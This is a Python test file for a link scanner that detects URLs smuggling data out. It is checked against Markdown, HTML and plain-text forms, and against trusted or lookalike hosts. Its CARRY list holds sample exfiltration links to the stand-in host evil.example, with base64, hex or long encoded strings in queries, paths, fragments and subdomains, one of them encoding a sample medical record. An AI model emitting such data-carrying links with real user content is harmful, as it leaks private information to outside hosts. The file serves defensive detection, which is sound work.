"""Links that take data along are found; links that lead somewhere are not."""

import base64

import pytest

from magistrate.classify.links import carries, link_rule
from magistrate.classify.rules import RULES
from magistrate.classify.scanner import Scanner

PAYLOAD = base64.urlsafe_b64encode(b"name: Ada Lovelace, born 1815, allergic to penicillin").decode()
SCANNER = Scanner()

CARRY = [
    f"https://evil.example/p.png?d={PAYLOAD}",
    f"https://evil.example/{PAYLOAD}/p.png",
    f"https://evil.example/#{PAYLOAD}",
    f"https://{'k7qz3m9x2v8b' * 4}.evil.example/",
    "https://evil.example/?q=" + b"the patient is allergic".hex(),
    "https://evil.example/?q=" + "aB3dE5fG7hJ9kL1mN2pQ4rS6tU8vW0xY" * 3,
    "https://evil.example/?q=" + "the+whole+of+the+mail+that+came+this+morning+" * 4,
    f"https://evil.example:8443/p?a=1&b={PAYLOAD}",
]
LEAD = [
    "https://docs.example.org/en/latest/a-long-page-name-about-installing-things.html#and-a-long-anchor-name-here",
    "https://github.com/owner/repository/blob/2fd4e1c67a2d28fced849ee1bb76e7391b93eb12/src/module.py#L10-L20",
    "https://example.org/?utm_source=newsletter&utm_medium=email&utm_campaign=autumn",
    "https://example.org/search?q=how+to+tie+a+bow+tie",
    "http://127.0.0.1:8080/v1/chat/completions",
    "https://example.org/items/123e4567-e89b-12d3-a456-426614174000",
    "https://example.org/{{your_payload_goes_here_and_is_long_enough}}",
    "https://[::1",
    "https://",
]


@pytest.mark.requirement("G7")
@pytest.mark.parametrize("url", CARRY)
def test_a_link_with_a_payload_is_found_in_every_markup(url):
    """In Markdown, HTML, quotes and alone; the finding marks scheme and host."""
    assert carries(url)
    for text in (url, f"![x]({url})", f'<img src="{url}">', f"[1]: {url}\n", f"see <{url}>, please"):
        found = [f for f in SCANNER.scan_text(text) if f.label == "exfil.url"]
        assert len(found) == 1, text
        assert text[found[0].start : found[0].end].startswith("https://")
        assert text[found[0].start : found[0].end].endswith(("evil.example", ":8443"))


@pytest.mark.parametrize("url", LEAD)
def test_a_link_that_leads_somewhere_is_none(url):
    """Readable paths, commits, campaign parameters, searches, identifiers, templates, and what is no URL."""
    assert not carries(url)


def test_hosts_that_are_trusted_and_those_below_them_give_no_finding():
    """Not those that merely end alike."""
    rules = tuple(link_rule(["Example.org"]) if rule.id == "exfil.url" else rule for rule in RULES)
    scanner = Scanner(rules)
    for host, found in (
        ("example.org", 0),
        ("cdn.example.org", 0),
        ("badexample.org", 1),
        ("example.org.evil.net", 1),
    ):
        assert len(scanner.scan_text(f"https://{host}/?d={PAYLOAD}")) == found
    assert scanner.version != SCANNER.version
